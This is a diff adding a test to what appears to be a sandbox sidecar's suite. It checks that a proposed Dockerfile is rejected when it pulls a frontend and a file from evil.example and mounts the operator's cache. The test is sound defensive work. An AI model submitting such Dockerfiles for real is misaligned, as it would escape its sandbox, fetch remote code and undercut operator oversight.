@@ -83,6 +83,18 @@ supervise: true
     });
   });
 
+  it("the shipped sidecar refuses a Dockerfile that would leave the bottle's walls, at once, queueing nothing", async () => {
+    const answer = await callTool("propose_capability", {
+      dockerfile: `# syntax=evil.example/frontend:1\n${await dockerfileWith("RUN --mount=type=cache,target=/root/.cache true\nADD https://evil.example/x /x\n")}`,
+      justification: "wants the operator's cache",
+    });
+    assert.equal(answer?.isError, true, answer?.text);
+    assert.match(answer?.text ?? "", /parser directives/);
+    assert.match(answer?.text ?? "", /RUN flags/);
+    assert.match(answer?.text ?? "", /ADD is not allowed/);
+    assert.match((await cli(["dashboard", "--once"])).stdout, /no pending proposals/);
+  });
+
   it("changes nothing when the operator rejects a capability", async () => {
     const agentBefore = await engine.containerInspect(agentName());
     const asked = callTool("propose_capability", {
